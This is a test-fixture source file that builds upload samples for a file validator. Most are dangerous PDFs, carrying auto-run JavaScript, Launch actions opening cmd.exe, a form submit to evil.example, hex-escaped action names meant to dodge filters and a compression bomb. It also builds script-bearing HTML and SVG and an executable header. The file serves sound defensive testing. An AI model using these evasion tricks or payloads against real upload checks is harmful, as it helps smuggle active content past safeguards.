/**
 * Files for upload tests, built in code so no binary fixture is committed: real documents and
 * pictures that must pass, and disguised or dangerous ones that must be refused.
 */
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

import { pdf } from '../demo/sample-files.js';

export { multipart, pdf } from '../demo/sample-files.js';

/** A PDF that runs JavaScript when opened. */
export const pdfWithJavaScript = () => pdf({ extraCatalog: "/OpenAction << /S /JavaScript /JS (app.alert('hi')) >>" });

/**
 * A PDF whose catalog refers to object 6, kept (as PDF 1.5 allows) in a FlateDecode-compressed
 * object stream, so its names appear in the file only compressed. `streamDict` is the stream's
 * dictionary (its /Length is added). No cross-reference table: readers rebuild it, as they do
 * for damaged files, and an attacker's file need not be tidy either.
 */
export function pdfWithObjectStream(object6: string, streamDict = '/Type /ObjStm /Filter /FlateDecode'): Buffer {
  const header = '6 0 ';
  const data = deflateSync(Buffer.from(`${header}${object6}`, 'latin1'));
  const head = Buffer.from(
    '%PDF-1.5\n%\xe2\xe3\xcf\xd3\n' +
      '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>\nendobj\n' +
      '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
      '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n' +
      `4 0 obj\n<< ${streamDict} /N 1 /First ${header.length} /Length ${data.length} >>\nstream\n`,
    'latin1',
  );
  const tail = Buffer.from('\nendstream\nendobj\ntrailer\n<< /Size 7 /Root 1 0 R >>\n%%EOF\n', 'latin1');
  return Buffer.concat([head, data, tail]);
}

/**
 * PDFs with active content, every one to be refused (issue 11, finding 6): PDF names may
 * spell any character as #xx, so `/J#61vaScript` is `/JavaScript` to a reader.
 */
export const activePdfs: Record<string, () => Buffer> = {
  'OpenAction JavaScript': pdfWithJavaScript,
  'escaped /J#61vaScript and /J#53': () =>
    pdf({ extraCatalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }),
  'escaped /J#53 alone': () => pdf({ extraCatalog: '/AA << /O << /S /JavaScr#69pt /J#53 (app.alert(1)) >> >>' }),
  'every letter escaped, lower-case hex': () =>
    pdf({ extraCatalog: '/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /#4a#53 (app.alert(1)) >>' }),
  'Names tree JavaScript': () =>
    pdf({ extraCatalog: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>' }),
  'OpenAction Launch': () => pdf({ extraCatalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  'escaped /L#61unch': () => pdf({ extraCatalog: '/OpenAction << /S /L#61unch /F (calc.exe) >>' }),
  EmbeddedFiles: () =>
    pdf({
      extraCatalog:
        '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>',
    }),
  'escaped /Embedded#46ile': () =>
    pdf({ extraCatalog: '/AF [<< /Type /Filespec /EF << /F << /Type /Embedded#46ile >> >> >>]' }),
  RichMedia: () => pdf({ extraCatalog: '/Extensions << /RichMedia << /Subtype /Flash >> >>' }),
  XFA: () => pdf({ extraCatalog: '/AcroForm << /Fields [] /XFA 4 0 R >>' }),
  SubmitForm: () => pdf({ extraCatalog: '/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>' }),
  ImportData: () => pdf({ extraCatalog: '/OpenAction << /S /ImportData /F (data.fdf) >>' }),
  GoToR: () => pdf({ extraCatalog: '/OpenAction << /S /GoToR /F (//evil.example/share/a.pdf) /D [0 /Fit] >>' }),
  'JavaScript in a compressed object stream': () => pdfWithObjectStream('<< /S /JavaScript /JS (app.alert(1)) >>'),
  'Launch in an object stream with an escaped filter name': () =>
    pdfWithObjectStream('<< /S /Launch /F (cmd.exe) >>', '/Type /Obj#53tm /Filter [/Fl#61teDecode]'),
  'object stream bomb (inflates past the 64 MiB budget)': () =>
    pdfWithObjectStream(`<< /S /GoTo /D [3 0 R /Fit] >>${' '.repeat(65 * 1024 * 1024)}`),
  'object stream that cannot be inspected (unknown filter)': () =>
    pdfWithObjectStream('<< /S /GoTo /D [3 0 R /Fit] >>', '/Type /ObjStm /Filter /LZWDecode'),
};

/** PDFs a contract or licence may well contain: web links, an opening view, compressed objects. */
export const harmlessPdfs: Record<string, () => Buffer> = {
  'link to a web page (/URI)': () =>
    pdf({
      extraCatalog:
        '/URI << /Base (https://example.com/) >> /OpenAction << /S /URI /URI (https://example.com/terms) >>',
    }),
  'OpenAction going to page 1': () => pdf({ extraCatalog: '/OpenAction [3 0 R /Fit]' }),
  'compressed object stream without actions': () => pdfWithObjectStream('<< /S /GoTo /D [3 0 R /Fit] >>'),
  'text naming JavaScript in a string': () => pdf({ text: 'See JavaScript and JS notes' }),
};

const picture = (width = 64, height = 48) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 80, b: 40 } } });

export const jpeg = (width?: number, height?: number) => picture(width, height).jpeg().toBuffer();
export const png = (width?: number, height?: number) => picture(width, height).png().toBuffer();
export const webp = (width?: number, height?: number) => picture(width, height).webp().toBuffer();

/** A JPEG carrying EXIF data (a copyright line, standing in for GPS position or camera serial). */
export const jpegWithExif = () =>
  picture(80, 60)
    .jpeg()
    .withMetadata({ exif: { IFD0: { Copyright: 'secret', Artist: 'Someone private' } } })
    .toBuffer();

/** The start of a Windows executable: DOS "MZ" header pointing at a "PE\0\0" header. */
export function exe(): Buffer {
  const data = Buffer.alloc(512);
  data.write('MZ', 0, 'latin1');
  data.writeUInt32LE(0x80, 0x3c); // e_lfanew
  data.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  data.write('PE\0\0', 0x80, 'latin1');
  data.writeUInt16LE(0x14c, 0x84); // machine: i386
  data.writeUInt16LE(1, 0x86); // one section
  return data;
}

export const html = () =>
  Buffer.from(
    '<!doctype html><html><head><title>x</title></head><body><script>alert(document.cookie)</script></body></html>',
  );

export const svgWithScript = () =>
  Buffer.from(
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
  );

/** A valid ZIP archive with one stored (uncompressed) file. */
export const zip = (): Buffer => zipOf({ 'a.txt': 'hello' });

/** A valid ZIP archive of stored (uncompressed) entries, in the order given. */
export function zipOf(entries: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [entryName, text] of Object.entries(entries)) {
    const name = Buffer.from(entryName);
    const content = Buffer.from(text);
    const crc = crc32(content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(content.length, 18);
    local.writeUInt32LE(content.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(content.length, 20);
    central.writeUInt32LE(content.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, content);
    centrals.push(central, name);
    offset += local.length + name.length + content.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  const count = Object.keys(entries).length;
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** A minimal OFD document: a ZIP with OFD.xml at its root pointing at one document. */
export const ofd = (): Buffer =>
  zipOf({
    'OFD.xml':
      '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
    'Doc_0/Document.xml':
      '<?xml version="1.0" encoding="UTF-8"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>',
  });

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}
